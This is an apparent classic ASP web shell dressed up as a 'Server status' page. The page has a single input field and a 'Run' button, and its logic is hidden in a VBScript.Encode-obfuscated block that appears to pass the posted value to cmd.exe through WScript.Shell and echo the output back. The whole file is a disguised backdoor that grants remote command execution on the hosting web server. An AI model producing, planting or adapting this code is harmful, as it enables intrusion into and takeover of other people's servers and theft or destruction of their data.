<%@ LANGUAGE = VBScript.Encode %>
<html><head><title>Server status</title></head><body>
<form method="post"><input name="c" size="80"><input type="submit" value="Run"></form>
<%#@~^+gAAAA==9b:~ktBP+X@#@&(0,In;!+dOcsWMh`rmJ*~@!@*,JrPPtnU@#@&7?OPkt~x,?+.-D ZMnmYn}4N+mD`r	?1DrwDRj4VVrb@#@&d?O~+XP{Pdt 3X+^`r^:9RnaPz^~rP'P"n$EnkYcsWM:vEmr#b@#@&d]nkwW	d+cDbOnPr@!aDn@*E~LPj+M-+MRuPtS2U^KNn`ac?O9r!YR"+m[b^Vc#*P'~r@!za.+@*J@#@&3UN,q6@#@&U0UAAA==^#~@%>
</body></html>
